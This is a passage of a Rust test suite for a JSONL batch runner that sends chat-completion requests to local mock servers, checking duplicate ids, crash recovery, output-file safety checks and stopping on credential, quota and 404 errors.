    let report = validate(Input::Path(input), 1024).await.unwrap();
    assert_eq!(report.invalid_count, 0, "{report:?}");
    let notes = report
        .portability_notes(volley_batch::Format::OpenAi)
        .join("\n");
    assert!(notes.contains("3 endpoints"), "{notes}");
    assert!(notes.contains("3 models"), "{notes}");
    assert!(notes.contains("Azure's paths"), "{notes}");
}

/// A line that is not valid JSON (malformed, or not UTF-8: a Latin-1 export's `é`) still
/// claims the `custom_id` it seems to give: a later line with that id is a duplicate, so once
/// the broken line is fixed and the run resumed, the id's answer is the fixed line's, never
/// the later line's.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_broken_line_keeps_its_custom_id_from_a_later_duplicate() {
    let fixed = chat_line("q1");
    let malformed = fixed
        .replacen("\"messages\"", ",\"messages\"", 1)
        .into_bytes();
    assert!(serde_json::from_slice::<Value>(&malformed).is_err());
    let latin1 = fixed.replacen("say something", "say caf\u{e9}", 1);
    let latin1: Vec<u8> = latin1.chars().map(|c| c as u32 as u8).collect();
    assert!(std::str::from_utf8(&latin1).is_err());
    for (broken, code) in [(malformed, "invalid_json"), (latin1, "invalid_utf8")] {
        let server = MockServer::start(MockConfig::default()).await.unwrap();
        let dir = tempfile::tempdir().unwrap();
        let input = dir.path().join("in.jsonl");
        let mut bytes = broken;
        bytes.push(b'\n');
        bytes.extend_from_slice(chat_line("q1").as_bytes());
        bytes.push(b'\n');
        std::fs::write(&input, bytes).unwrap();
        let run = |input: PathBuf| {
            let client = Client::builder().base_url(server.url()).build().unwrap();
            BatchRunner::new(client, Input::Path(input), options(dir.path()))
                .run(std::future::pending())
        };
        let first = run(input.clone()).await.unwrap();
        assert_eq!(
            (first.invalid, first.succeeded),
            (2, 0),
            "{code}: {first:?}"
        );
        assert_eq!(server.stats().requests_total, 0, "{code}");
        let codes: Vec<String> = records(&dir.path().join("out.jsonl"))
            .iter()
            .map(|r| r["error"]["code"].as_str().unwrap_or_default().to_owned())
            .collect();
        assert_eq!(codes, [code, "duplicate_custom_id"]);

        // Fixed and resumed: the first line is sent under q1; the second stays a duplicate.
        write_input(&input, [fixed.clone(), chat_line("q1")]);
        let second = run(input).await.unwrap();
        assert_eq!(second.succeeded, 1, "{code}: {second:?}");
        assert_eq!(server.stats().requests_total, 1, "{code}");
    }
}

/// A line too long to read claims the `custom_id` found in its first bytes or, as serde_json
/// writes keys in order, its last: a later line with that id is a duplicate, and once the
/// limit is raised and the run resumed, the long line is sent under its id.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_line_too_long_keeps_its_custom_id_from_a_later_duplicate() {
    let server = MockServer::start(MockConfig::default()).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in.jsonl");
    let long_text = "y".repeat(20_000);
    // `json!` sorts the keys: "custom_id" comes after the long "body".
    let id_last = json!({"custom_id": "big-1", "method": "POST", "url": "/v1/chat/completions",
        "body": {"model": "gpt-4o-mini", "max_tokens": 8,
                 "messages": [{"role": "user", "content": long_text}]}})
    .to_string();
    assert!(id_last.rfind("custom_id").unwrap() > 20_000);
    let id_first = format!(
        r#"{{"custom_id":"big-2","method":"POST","url":"/v1/chat/completions","body":{{"model":"gpt-4o-mini","max_tokens":8,"messages":[{{"role":"user","content":"{long_text}"}}]}}}}"#
    );
    write_input(
        &input,
        [id_last, id_first, chat_line("big-1"), chat_line("big-2")],
    );
    let run = |max_line_bytes: usize| {
        let client = Client::builder().base_url(server.url()).build().unwrap();
        let options = BatchOptions {
            max_line_bytes,
            ..options(dir.path())
        };
        BatchRunner::new(client, Input::Path(input.clone()), options).run(std::future::pending())
    };
    let first = run(8 * 1024).await.unwrap();
    assert_eq!((first.invalid, first.succeeded), (4, 0), "{first:?}");
    assert_eq!(server.stats().requests_total, 0);
    let out: Vec<(String, Value)> = records(&dir.path().join("out.jsonl"))
        .iter()
        .map(|r| {
            let code = r["error"]["code"].as_str().unwrap_or_default().to_owned();
            (code, r["custom_id"].clone())
        })
        .collect();
    assert_eq!(
        out,
        [
            ("line_too_long".to_owned(), json!("big-1")),
            ("line_too_long".to_owned(), json!("big-2")),
            ("duplicate_custom_id".to_owned(), Value::Null),
            ("duplicate_custom_id".to_owned(), Value::Null),
        ]
    );

    // The limit raised and the run resumed: the long lines are sent under their ids.
    let second = run(1 << 20).await.unwrap();
    assert_eq!(second.succeeded, 2, "{second:?}");
    assert_eq!(server.stats().requests_total, 2);
}

#[tokio::test]
async fn errors_of_the_run_name_the_path() {
    let dir = tempfile::tempdir().unwrap();
    let client = Client::builder()
        .base_url("http://127.0.0.1:9/v1")
        .build()
        .unwrap();
    let missing = dir.path().join("missing.jsonl");
    let err = BatchRunner::new(
        client.clone(),
        Input::Path(missing.clone()),
        options(dir.path()),
    )
    .run(std::future::pending())
    .await
    .unwrap_err();
    assert_eq!(err.kind(), ErrorKind::InvalidInput);
    assert!(
        err.to_string().contains(&*missing.to_string_lossy()),
        "{err}"
    );

    let input = input_file(dir.path(), numbered(1));
    let unwritable: PathBuf = dir.path().join("no-such-dir").join("out.jsonl");
    let err = BatchRunner::new(
        client.clone(),
        Input::Path(input.clone()),
        BatchOptions::new(&unwritable),
    )
    .run(std::future::pending())
    .await
    .unwrap_err();
    assert_eq!(err.kind(), ErrorKind::Config);
    assert!(
        err.to_string().contains(&*unwritable.to_string_lossy()),
        "{err}"
    );

    // The input given as the output by mistake is refused, not touched; so is another
    // file that is not a batch output.
    let before = std::fs::read(&input).unwrap();
    let err = BatchRunner::new(
        client.clone(),
        Input::Path(input.clone()),
        BatchOptions::new(dir.path().join(".").join("in.jsonl")),
    )
    .run(std::future::pending())
    .await
    .unwrap_err();
    assert_eq!(err.kind(), ErrorKind::Config);
    assert!(
        err.to_string().contains("cannot also be the input"),
        "{err}"
    );
    let copy = dir.path().join("copy.jsonl");
    std::fs::copy(&input, &copy).unwrap();
    let err = BatchRunner::new(client, Input::Path(input.clone()), BatchOptions::new(&copy))
        .run(std::future::pending())
        .await
        .unwrap_err();
    assert_eq!(err.kind(), ErrorKind::Config);
    assert!(err.to_string().contains("not a batch output file"), "{err}");
    assert_eq!(std::fs::read(&input).unwrap(), before);
    assert_eq!(std::fs::read(&copy).unwrap(), before);
}

/// Outcomes are written as they come, not held for a batch or an `fsync`: with an `fsync`
/// interval of an hour, the file still fills while the run goes on, in every mode.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn outcomes_reach_the_file_while_the_run_goes_on() {
    let server = MockServer::start(MockConfig {
        latency: "uniform:1ms..10ms".parse().unwrap(),
        ..MockConfig::default()
    })
    .await
    .unwrap();
    let hour = Fsync::Interval(Duration::from_secs(3600));
    for (fsync, ordered) in [(hour, false), (hour, true), (Fsync::Always, false)] {
        let dir = tempfile::tempdir().unwrap();
        let input = input_file(dir.path(), numbered(20_000));
        let out_path = dir.path().join("out.jsonl");
        let client = Client::builder().base_url(server.url()).build().unwrap();
        let opts = BatchOptions {
            concurrency: 16,
            fsync,
            ordered,
            ..BatchOptions::new(&out_path)
        };
        let runner = BatchRunner::new(client, Input::Path(input), opts);
        // Stops the run once 50 outcomes are in the file (or after 10 s, failing the test).
        let seen = Arc::new(AtomicBool::new(false));
        let stop = {
            let (seen, out_path) = (seen.clone(), out_path.clone());
            async move {
                let deadline = tokio::time::Instant::now() + Duration::from_secs(10);
                while tokio::time::Instant::now() < deadline {
                    let bytes = std::fs::read(&out_path).unwrap_or_default();
                    if bytes.iter().filter(|&&b| b == b'\n').count() >= 50 {
                        seen.store(true, Ordering::Relaxed);
                        break;
                    }
                    tokio::time::sleep(Duration::from_millis(5)).await;
                }
            }
        };
        let summary = runner.run(stop).await.unwrap();
        assert!(
            seen.load(Ordering::Relaxed),
            "nothing written with {fsync:?}, ordered: {ordered}"
        );
        assert!(
            summary.interrupted && summary.succeeded < 20_000,
            "{summary:?}"
        );
        let ids = custom_ids(&records(&out_path));
        assert_eq!(ids.len() as u64, summary.succeeded);
        if ordered {
            let expected: Vec<String> = (0..ids.len()).map(|i| format!("req-{i}")).collect();
            assert_eq!(ids, expected, "in input order");
        }
        assert!(
            !dir.path().join("out.jsonl.held").exists(),
            "the holding file is gone after a clean stop"
        );
    }
}

/// A crash of an ordered run leaves outcomes in the holding file that never reached the
/// output: the next run (in either mode) moves them to the output in input order, errors to
/// the errors file too, sends none of them again, and deletes the holding file.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn outcomes_held_back_by_a_crashed_ordered_run_are_not_sent_again() {
    let server = MockServer::start(MockConfig {
        journal: true,
        ..MockConfig::default()
    })
    .await
    .unwrap();
    let dir = tempfile::tempdir().unwrap();
    let input = input_file(dir.path(), numbered(20));
    let client = Client::builder().base_url(server.url()).build().unwrap();
    // Real records for every line, from a run to another file.
    let full = dir.path().join("full.jsonl");
    BatchRunner::new(
        client.clone(),
        Input::Path(input.clone()),
        BatchOptions {
            ordered: true,
            ..BatchOptions::new(&full)
        },
    )
    .run(std::future::pending())
    .await
    .unwrap();
    let lines: Vec<String> = std::fs::read_to_string(&full)
        .unwrap()
        .lines()
        .map(|l| format!("{l}\n"))
        .collect();
    // The crash: lines 0-4 released; 3 (already released), 8 and 12 written to the holding
    // file, 12 as a failure; a torn entry last.
    let out_path = dir.path().join("out.jsonl");
    std::fs::write(&out_path, lines[..5].concat()).unwrap();
    let failed = lines[12].replace(
        r#""response":{"status_code":200"#,
        r#""response":{"status_code":500"#,
    );
    assert_ne!(failed, lines[12]);
    let held = format!(
        "13 {failed}4 {}9 {}14 {{\"id\":\"batch_req_torn",
        lines[3], lines[8]
    );
    std::fs::write(dir.path().join("out.jsonl.held"), held).unwrap();
    server.reset_stats();

    for ordered in [true, false] {
        let summary = BatchRunner::new(
            client.clone(),
            Input::Path(input.clone()),
            BatchOptions {
                ordered,
                ..options(dir.path())
            },
        )
        .run(std::future::pending())
        .await
        .unwrap();
        if ordered {
            assert_eq!((summary.skipped, summary.succeeded), (7, 13), "{summary:?}");
        } else {
            assert_eq!((summary.skipped, summary.succeeded), (20, 0), "{summary:?}");
        }
    }
    let ids = custom_ids(&records(&out_path));
    let mut expected: Vec<String> = [0, 1, 2, 3, 4, 8, 12].map(|i| format!("req-{i}")).into();
    expected.extend(
        (5..20)
            .filter(|i| ![8, 12].contains(i))
            .map(|i| format!("req-{i}")),
    );
    assert_eq!(ids, expected);
    let sent: HashSet<String> = server.journal().into_iter().collect();
    assert_eq!(sent.len(), 13);
    for held in ["req-3", "req-8", "req-12"] {
        assert!(!sent.contains(held), "{held} was sent again");
    }
    let errors = custom_ids(&records(&dir.path().join("errors.jsonl")));
    assert_eq!(errors, ["req-12"]);
    assert!(!dir.path().join("out.jsonl.held").exists());
}

#[tokio::test]
async fn an_fsync_interval_of_zero_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let input = input_file(dir.path(), numbered(1));
    let opts = BatchOptions {
        fsync: Fsync::Interval(Duration::ZERO),
        ..options(dir.path())
    };
    let client = Client::builder()
        .base_url("http://127.0.0.1:9/v1")
        .build()
        .unwrap();
    let err = BatchRunner::new(client, Input::Path(input), opts)
        .run(std::future::pending())
        .await
        .unwrap_err();
    assert!(err.to_string().contains("fsync interval"), "{err}");
}

/// A client without retries, so that injected faults become recorded failures.
fn client_without_retries(server: &MockServer) -> Client {
    Client::builder()
        .base_url(server.url())
        .retries(0)
        .build()
        .unwrap()
}

async fn bounded<T>(run: impl std::future::Future<Output = T>) -> T {
    tokio::time::timeout(Duration::from_secs(30), run)
        .await
        .expect("the run ended within 30 s")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_fifo_input_loses_no_line() {
    let server = MockServer::start(MockConfig::default()).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("in.fifo");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());
    let feeder = {
        let fifo = fifo.clone();
        std::thread::spawn(move || {
            let text: String = numbered(2_000).map(|l| l + "\n").collect();
            // Blocks until the run opens the FIFO for reading.
            std::fs::write(fifo, text).unwrap();
        })
    };
    let runner = BatchRunner::new(
        Client::builder().base_url(server.url()).build().unwrap(),
        Input::Path(fifo),
        options(dir.path()),
    );
    let progress = runner.progress();
    let summary = bounded(runner.run(std::future::pending())).await.unwrap();
    feeder.join().unwrap();
    assert_eq!((summary.lines, summary.succeeded), (2_000, 2_000));
    assert_eq!(records(&dir.path().join("out.jsonl")).len(), 2_000);
    assert_eq!(
        progress.snapshot().total_lines,
        None,
        "a FIFO is not counted"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_second_run_on_the_same_output_is_refused() {
    // The first run is still in flight while the second starts, even on a loaded machine.
    let server = MockServer::start(MockConfig {
        latency: volley_mock::Latency::Fixed(Duration::from_secs(2)),
        ..MockConfig::default()
    })
    .await
    .unwrap();
    let dir = tempfile::tempdir().unwrap();
    let input = input_file(dir.path(), numbered(20));
    let client = Client::builder().base_url(server.url()).build().unwrap();
    let first = BatchRunner::new(
        client.clone(),
        Input::Path(input.clone()),
        options(dir.path()),
    );
    let progress = first.progress();
    let first = tokio::spawn(first.run(std::future::pending()));
    bounded(async {
        while progress.snapshot().in_flight == 0 {
            tokio::time::sleep(Duration::from_millis(2)).await;
        }
    })
    .await;
    let second = BatchRunner::new(
        client.clone(),
        Input::Path(input.clone()),
        options(dir.path()),
    );
    let err = bounded(second.run(std::future::pending()))
        .await
        .unwrap_err();
    assert_eq!(err.kind(), ErrorKind::Config);
    assert!(err.to_string().contains("another run is writing"), "{err}");
    // A different output but the same errors file is refused too.
    let other = BatchOptions {
        errors: Some(dir.path().join("errors.jsonl")),
        ..BatchOptions::new(dir.path().join("other.jsonl"))
    };
    let err = BatchRunner::new(client, Input::Path(input), other)
        .run(std::future::pending())
        .await
        .unwrap_err();
    assert!(err.to_string().contains("another run is writing"), "{err}");
    let summary = bounded(first).await.unwrap().unwrap();
    assert_eq!(summary.succeeded, 20);
    assert_eq!(records(&dir.path().join("out.jsonl")).len(), 20);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn retry_failed_sends_recorded_failures_again_and_the_last_record_wins() {
    const LINES: usize = 300;
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in.jsonl");
    write_input(
        &input,
        numbered(LINES).chain([r#"{"custom_id":"bad"}"#.to_owned()]),
    );
    let flaky = MockServer::start(MockConfig {
        faults: "500=0.5".parse().unwrap(),
        ..MockConfig::default()
    })
    .await
    .unwrap();
    let first = BatchRunner::new(
        client_without_retries(&flaky),
        Input::Path(input.clone()),
        options(dir.path()),
    )
    .run(std::future::pending())
    .await
    .unwrap();
    assert!(first.failed > 50 && first.failed < 250, "{first:?}");
    assert_eq!(first.invalid, 1);

    // Without the option a recorded failure is final.
    let healthy = MockServer::start(MockConfig::default()).await.unwrap();
    let again = BatchRunner::new(
        client_without_retries(&healthy),
        Input::Path(input.clone()),
        options(dir.path()),
    )
    .run(std::future::pending())
    .await
    .unwrap();
    assert_eq!(
        (again.succeeded, again.skipped_failed),
        (0, first.failed + 1)
    );

    let retried = BatchRunner::new(
        client_without_retries(&healthy),
        Input::Path(input.clone()),
        BatchOptions {
            retry_failed: true,
            ..options(dir.path())
        },
    )
    .run(std::future::pending())
    .await
    .unwrap();
    assert_eq!(retried.succeeded, first.failed, "{retried:?}");
    assert_eq!(retried.skipped_failed, 1, "the invalid line is not resent");
    assert_eq!(healthy.stats().requests_total, first.failed);

    let out = records(&dir.path().join("out.jsonl"));
    assert_eq!(out.len() as u64, LINES as u64 + 1 + first.failed);
    let mut last: BTreeMap<String, u64> = BTreeMap::new();
    for r in out.iter().filter(|r| r["line"].is_null()) {
        if let Some(id) = r["custom_id"].as_str() {
            last.insert(
                id.to_owned(),
                r["response"]["status_code"].as_u64().unwrap(),
            );
        }
    }
    assert_eq!(last.len(), LINES);
    assert!(
        last.values().all(|&s| s == 200),
        "the last record is a success"
    );

    // A resume now finds every request done and successful.
    let done = BatchRunner::new(
        client_without_retries(&healthy),
        Input::Path(input),
        BatchOptions {
            retry_failed: true,
            ..options(dir.path())
        },
    )
    .run(std::future::pending())
    .await
    .unwrap();
    assert_eq!((done.skipped, done.skipped_failed), (LINES as u64 + 1, 1));
    assert_eq!(done.succeeded + done.failed, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rejected_credentials_stop_the_run() {
    let server = MockServer::start(MockConfig {
        require_api_key: Some("sk-right".into()),
        ..MockConfig::default()
    })
    .await
    .unwrap();
    let client = Client::builder()
        .base_url(server.url())
        .api_key("sk-wrong")
        .build()
        .unwrap();
    let summary = stopped_early(client, 401).await;
    let why = summary.credentials_rejected.clone().expect("stopped");
    assert!(why.starts_with("HTTP 401: "), "{why}");
    assert!(server.stats().requests_total <= 100);
}

/// volley-mock, a SOCKS5 proxy in front of it, and a client that gives the proxy the wrong
/// password (`ErrorKind::Config` for every request; nothing reaches the server). The proxy
/// runs while its handle lives.
async fn behind_a_refusing_proxy() -> (MockServer, volley_testkit::socks::Socks5, Client) {
    let server = MockServer::start(MockConfig::default()).await.unwrap();
    let socks = volley_testkit::socks::Socks5::start(Some(("volley", "right-pw")));
    let client = Client::builder()
        .base_url(server.url())
        .proxy(socks.url().replace("right-pw", "wrong-pw"))
        .no_proxy("")
        .build()
        .unwrap();
    (server, socks, client)
}

/// A request the client cannot send because of its own settings (here a SOCKS5 proxy that
/// refuses the password in its URL: `ErrorKind::Config`) stops the run as rejected
/// credentials do: every other line would fail the same way, and nothing was sent.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_client_that_cannot_send_stops_the_run() {
    let (server, _socks, client) = behind_a_refusing_proxy().await;
    let (summary, out) = stopped_early_records(client).await;
    let why = summary.cannot_send.clone().expect("stopped");
    assert!(why.contains("rejected"), "{why}");
    assert!(!why.starts_with("line "), "{why}");
    assert!(!why.contains("wrong-pw"), "{why}");
    assert!(
        out.iter().all(|r| r["error"]["code"] == "config"),
        "{out:?}"
    );
    assert_eq!(server.stats().requests_total, 0);
}

/// At one line at a time, the stop leaves exactly one record: the lines already queued are not
/// sent after it, as with rejected credentials.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_stop_of_a_client_that_cannot_send_sends_nothing_queued() {
    let (server, _socks, client) = behind_a_refusing_proxy().await;
    let (summary, out) = run_numbered(client, 10, 1).await;
    assert!(summary.cannot_send.is_some(), "{summary:?}");
    assert_eq!(out.len(), 1);
    assert_eq!(server.stats().requests_total, 0);
}

/// A file that is not ours given as the output or the errors file is refused, untouched: a
/// one-line JSON answer saved by `curl` (`{"id":"msg_01..`, no final newline) looks like a
/// record cut short only to a check of its first bytes.
#[tokio::test]
async fn an_answer_saved_by_curl_is_not_taken_for_a_torn_output() {
    let server = MockServer::start(MockConfig::default()).await.unwrap();
    let saved = r#"{"id":"msg_01","type":"message","content":[]}"#;
    for as_errors in [false, true] {
        let dir = tempfile::tempdir().unwrap();
        let input = input_file(dir.path(), [chat_line("a")]);
        let answer = dir.path().join("answer.json");
        std::fs::write(&answer, saved).unwrap();
        let options = if as_errors {
            BatchOptions {
                errors: Some(answer.clone()),
                ..BatchOptions::new(dir.path().join("out.jsonl"))
            }
        } else {
            BatchOptions::new(answer.clone())
        };
        let client = Client::builder().base_url(server.url()).build().unwrap();
        let err = BatchRunner::new(client, Input::Path(input), options)
            .run(std::future::pending())
            .await
            .unwrap_err();
        assert_eq!(err.kind(), ErrorKind::Config, "{err}");
        assert_eq!(
            std::fs::read_to_string(&answer).unwrap(),
            saved,
            "errors: {as_errors}"
        );
    }
}

/// Runs 2 000 lines at 8 at once with `client`, whose every answer is `status`: the run stops
/// early (at most 100 records, each of that status), neither completed nor interrupted.
async fn stopped_early(client: Client, status: u16) -> Summary {
    let (summary, out) = stopped_early_records(client).await;
    assert!(out.iter().all(|r| r["response"]["status_code"] == status));
    summary
}

/// Runs 2 000 lines at 8 at once with `client`: the run stops early (at most 100 records),
/// neither completed nor interrupted. Its summary and records.
async fn stopped_early_records(client: Client) -> (Summary, Vec<Value>) {
    let (summary, out) = run_numbered(client, 2_000, 8).await;
    assert!(!summary.all_succeeded() && !summary.interrupted);
    assert!(!out.is_empty() && out.len() <= 100, "{} records", out.len());
    (summary, out)
}

/// Runs `lines` numbered lines, `concurrency` at once, with `client` (bounded in time): the
/// summary and the output's records.
async fn run_numbered(client: Client, lines: usize, concurrency: usize) -> (Summary, Vec<Value>) {
    let dir = tempfile::tempdir().unwrap();
    let input = input_file(dir.path(), numbered(lines));
    let options = BatchOptions {
        concurrency,
        ..options(dir.path())
    };
    let summary =
        bounded(BatchRunner::new(client, Input::Path(input), options).run(std::future::pending()))
            .await
            .unwrap();
    (summary, records(&dir.path().join("out.jsonl")))
}

/// A 429 saying the account's quota is used up stops the run as rejected credentials do: no
/// wait restores the quota, so every later line would fail the same way.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_used_up_quota_stops_the_run() {
    let quota = json!({"error": {"message": "You exceeded your current quota, please check your plan and billing details.",
        "type": "insufficient_quota", "param": null, "code": "insufficient_quota"}})
    .to_string();
    let base = error_server("429 Too Many Requests", vec![quota]).await;
    let client = Client::builder().base_url(base).build().unwrap();
    let summary = stopped_early(client, 429).await;
    let why = summary.quota_exhausted.clone().expect("stopped");
    assert!(why.starts_with("HTTP 429: You exceeded"), "{why}");
    assert!(summary.credentials_rejected.is_none());
}

/// A server that answers by the `custom_id` (sent as `x-client-request-id`): `ok-*` with a
/// chat completion, `nf-*` with OpenAI's 404 for a model that does not exist, `model-*` with
/// OpenAI's 403 for a model the project may not use,
/// `flagged-*` with OpenRouter's 403 for a flagged input, anything else with OpenAI's 403 for
/// a key used from a country it does not serve.
async fn forbidding_server() -> String {
    let port = volley_testkit::raw::serve(|head| {
        let id = head
            .lines()
            .find_map(|l| l.strip_prefix("x-client-request-id: "))
            .unwrap_or("");
        let forbidden = |body: Value| {
            volley_testkit::raw::json_response("403 Forbidden", &[], &body.to_string())
        };
        if id.starts_with("ok-") {
            let body = json!({"id": "chatcmpl-1", "object": "chat.completion", "created": 0,
                "model": "gpt-4o-mini", "choices": [{"index": 0, "finish_reason": "stop",
                "message": {"role": "assistant", "content": "hi"}}],
                "usage": {"prompt_tokens": 3, "completion_tokens": 1, "total_tokens": 4}});
            volley_testkit::raw::json_response("200 OK", &[], &body.to_string())
        } else if id.starts_with("model-") {
            forbidden(json!({"error": {"message": "Project `proj_1` does not have access to model `gpt-4o-mini`",
                "type": "invalid_request_error", "param": null, "code": "model_not_found"}}))
        } else if id.starts_with("nf-") {
            volley_testkit::raw::json_response(
                "404 Not Found",
                &[],
                &json!({"error": {"message": "The model `gpt-4o-mimi` does not exist or you do not have access to it.",
                    "type": "invalid_request_error", "param": null, "code": "model_not_found"}})
                .to_string(),
            )
        } else if id.starts_with("flagged-") {
            forbidden(json!({"error": {"code": 403, "message": "Your input was flagged for \"violence\"",
                "metadata": {"reasons": ["violence"], "flagged_input": "...",
                    "provider_name": "OpenAI", "model_slug": "openai/gpt-4o-mini"}}}))
        } else {
            forbidden(json!({"error": {"code": "unsupported_country_region_territory",
                "message": "Country, region, or territory not supported", "param": null,
                "type": "request_forbidden"}}))
        }
    })
    .await;
    format!("http://127.0.0.1:{port}/v1")
}

/// 16 lines that all come back 404 before anything succeeded stop the run (a base URL
/// without its `/v1`, a model that does not exist); after a success, 404s fail their lines.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_run_whose_first_requests_all_404_stops() {
    let ids: Vec<String> = (0..100).map(|n| format!("nf-{n}")).collect();
    let (summary, out) = run_one_at_a_time(&ids).await;
    let why = summary.nothing_found.clone().expect("stopped");
    assert!(why.starts_with("HTTP 404: The model"), "{why}");
    assert_eq!(out.len(), 16);
    assert!(!summary.all_succeeded());

    // Any other outcome first (a success, another error) means the lines can work.
    for first in ["ok-0", "denied-0"] {
        let ids: Vec<String> = std::iter::once(first.to_owned())
            .chain((0..40).map(|n| format!("nf-{n}")))
            .collect();
        let (summary, out) = run_one_at_a_time(&ids).await;
        assert_eq!(summary.nothing_found, None, "{first}");
        assert_eq!(out.len(), 41);
    }
}

/// 403s that flag their input never stop a run, however many come in a row.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn flagged_inputs_never_stop_a_run() {
    let ids: Vec<String> = (0..30).map(|n| format!("flagged-{n}")).collect();
    let (summary, out) = run_one_at_a_time(&ids).await;
    assert_eq!(summary.credentials_rejected, None);
    assert_eq!(out.len(), 30);
}

/// Runs `ids` one at a time (so outcomes come in line order) against [`forbidding_server`].
async fn run_one_at_a_time(ids: &[String]) -> (Summary, Vec<Value>) {
    let base = forbidding_server().await;
    let dir = tempfile::tempdir().unwrap();
    let input = input_file(dir.path(), ids.iter().map(|id| chat_line(id)));
    let client = Client::builder().base_url(base).retries(0).build().unwrap();
    let options = BatchOptions {
        concurrency: 1,
        ..options(dir.path())
    };
    let summary =
        bounded(BatchRunner::new(client, Input::Path(input), options).run(std::future::pending()))
            .await
            .unwrap();
    (summary, records(&dir.path().join("out.jsonl")))
}

/// A lone 403 fails its line only, before or after a success: a flagged input, a model the
/// project may not use, anything else. The key works for the other lines.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_403_about_one_line_fails_that_line_only() {
    let ids: Vec<String> = [
        "flagged-0",
        "model-1",
        "ok-2",
        "denied-3",
        "ok-4",
        "model-5",
    ]
    .map(str::to_owned)
    .to_vec();
    let (summary, out) = run_one_at_a_time(&ids).await;
    assert_eq!(summary.credentials_rejected, None);
    assert!(!summary.interrupted);
    assert_eq!((summary.succeeded, summary.failed), (2, 4));
    assert_eq!(custom_ids(&out), ids);
}

/// 16 lines in a row that end in 403 stop the run, whether the 403 names a model or not,
/// before any success or after: a key without access, or one revoked or blocked mid-run,
/// fails every line. 403s that flag their input do not count (see
/// `flagged_inputs_never_stop_a_run`).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_wall_of_403s_stops_the_run() {
    let walls = [
        (
            Vec::new(),
            "model",
            "HTTP 403: Project `proj_1` does not have access",
            16,
        ),
        (
            vec!["ok-a".to_owned(), "ok-b".to_owned()],
            "denied",
            "HTTP 403: Country",
            16,
        ),
        (Vec::new(), "denied", "HTTP 403: Country", 16),
    ];
    for (first, kind, says, forbidden) in walls {
        let ids: Vec<String> = first
            .iter()
            .cloned()
            .chain((0..100).map(|n| format!("{kind}-{n}")))
            .collect();
        let (summary, out) = run_one_at_a_time(&ids).await;
        let why = summary.credentials_rejected.clone().expect("stopped");
        assert!(why.starts_with(says), "{why}");
        assert_eq!(out.len(), first.len() + forbidden, "{kind}: {}", out.len());
        assert_eq!(summary.failed, forbidden as u64);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn outputs_that_are_not_regular_files_are_refused() {
    let server = MockServer::start(MockConfig::default()).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let input = input_file(dir.path(), numbered(3));
    let client = Client::builder().base_url(server.url()).build().unwrap();
    let fifo = dir.path().join("out.fifo");
    assert!(
        std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    for output in [fifo.clone(), PathBuf::from("-"), dir.path().to_owned()] {
        let err = bounded(
            BatchRunner::new(
                client.clone(),
                Input::Path(input.clone()),
                BatchOptions::new(&output),
            )
            .run(std::future::pending()),
        )
        .await
        .unwrap_err();
        assert_eq!(err.kind(), ErrorKind::Config, "{err}");
        assert!(
            err.to_string().contains("not a regular file") || err.to_string().contains("`-`"),
            "{err}"
        );
    }
    assert!(!PathBuf::from("-").exists());
    let errors_fifo = BatchOptions {
        errors: Some(fifo),
        ..options(dir.path())
    };
    let err = bounded(
        BatchRunner::new(client, Input::Path(input), errors_fifo).run(std::future::pending()),
    )
    .await
    .unwrap_err();
    assert!(err.to_string().contains("not a regular file"), "{err}");
    assert_eq!(server.stats().requests_total, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_byte_order_mark_and_blank_lines_are_not_lines() {
    let server = MockServer::start(MockConfig::default()).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in.jsonl");
    let mut text = String::from("\u{feff}");
    for line in numbered(5) {
        text.push_str(&line);
        text.push_str("\n\n  \n");
    }
    std::fs::write(&input, text).unwrap();
    let runner = BatchRunner::new(
        Client::builder().base_url(server.url()).build().unwrap(),
        Input::Path(input.clone()),
        options(dir.path()),
    );
    let progress = runner.progress();
    let summary = runner.run(std::future::pending()).await.unwrap();
    assert!(summary.all_succeeded(), "{summary:?}");
    assert_eq!(summary.succeeded, 5);
    let snapshot = progress.snapshot();
    assert_eq!(
        snapshot.total_lines,
        Some(5),
        "blank lines are not in the total"
    );
    assert_eq!(snapshot.done(), 5);

    let stream = chat_line("s").replace(r#""max_tokens":8"#, r#""max_tokens":8,"stream":true"#);
    std::fs::write(&input, format!("{stream}\n")).unwrap();
    let report = validate(Input::Path(input), 1 << 20).await.unwrap();
    assert_eq!(report.invalid_count, 1);
    let volley_batch::Outcome::Invalid { code, message } = &report.invalid[0].outcome else {
        panic!("an invalid record");
    };
    assert_eq!(*code, "invalid_field");
    assert!(message.contains("`body.stream`"), "{message}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ordered_output_with_a_tiny_byte_window_still_finishes_in_order() {
    let server = MockServer::start(MockConfig {
        latency: "uniform:1ms..20ms".parse().unwrap(),
        ..MockConfig::default()
    })
    .await
    .unwrap();
    let dir = tempfile::tempdir().unwrap();
    let input = input_file(dir.path(), numbered(300));
    let options = BatchOptions {
        ordered: true,
        reorder_max_bytes: 1,
        concurrency: 32,
